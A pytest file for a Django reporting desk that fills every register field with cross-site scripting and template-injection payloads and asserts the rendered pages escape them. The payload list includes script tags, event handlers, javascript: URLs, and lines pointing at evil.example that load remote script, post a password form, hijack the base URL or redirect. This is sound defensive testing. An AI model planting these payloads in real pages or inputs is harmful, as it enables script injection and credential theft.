"""What reports and people write is shown as words, wherever it stands."""

import json
from pathlib import Path

import lxml.html
import pytest
from django.db import connections
from tests.desk.browsing import PASSWORD
from tests.desk.conftest import Caller, tawthiq

from tawthiq.desk.people.accounts import Account
from tawthiq.desk.serving import open_desk
from tawthiq.register.models import StandingRow
from tawthiq.workflow.registers.revising import under_review

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</p></article></main><script src=//evil.example></script>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7*7 }}{% include 'x' %}",
    "<!--<script>-->",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "\u202e<b>gpj.exe</b>\u2066",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
)
TEXT = "قُتل خمسة مدنيين في غارة جوية على سوق {0} أمس، بحسب {0}."
OURS = {"script", "form", "input", "meta", "style", "base", "iframe", "svg", "img"}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Make a register whose every field holds a payload."""
    lines = [
        {
            "id": f"h{number}{payload}" if number % 2 else f"h{number}",
            "title": payload,
            "outlet": payload,
            "url": f"https://example.org/{payload}",
            "lang": "ar",
            "published": "2031-03-05",
            "text": TEXT.format(payload),
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    file = tmp_path / "posts.jsonl"
    told = (json.dumps(line, ensure_ascii=False) + "\n" for line in lines)
    file.write_text("".join(told), encoding="utf-8")
    register = tmp_path / "register"
    tawthiq(tmp_path / "home", "init", register)
    tawthiq(tmp_path / "home", "ingest", register, file)
    open_desk(register)
    Account.objects.create_user(username="coder", password=PASSWORD, role="coder")
    return register


def test_no_payload_becomes_markup(hostile: Path) -> None:
    assert hostile.is_dir()
    client = Caller("coder")
    for row in StandingRow.objects.select_related("report"):
        value = next(under_review(row.name).draft.values(), None)
        address = f"/reports/{row.name}/"
        if value is not None:
            told = {
                "ruling": "reject",
                "target": value.target,
                "note": row.report.title,
            }
            client.post(f"/revise/{row.name}/", told)
        harmless(client.get(address).content)
        if value is not None:
            harmless(client.get(address, {"edit": value.target}).content)
    harmless(client.get("/queue/").content)
    harmless(client.get("/queue/", {"state": PAYLOADS[0]}).content)
    harmless(client.get(f"/nowhere/{PAYLOADS[0]}").content)
    connections.close_all()


def harmless(page: bytes) -> None:
    tree = lxml.html.document_fromstring(page.decode())
    for element in tree.iter(lxml.etree.Element):
        told = dict(element.attrib)
        assert not [name for name in told if name.startswith("on")], told
        assert element.tag not in {"iframe", "svg", "img", "base", "style", "math"}
        for name in ("href", "src", "action"):
            # Nothing at all leads to the page itself.
            assert told.get(name, "").lstrip()[:1] in {"", "/", "?", "#"}, told
            assert not told.get(name, "").startswith("//"), told
        if element.tag == "script":
            assert told["src"].startswith("/static/")
            assert not element.text
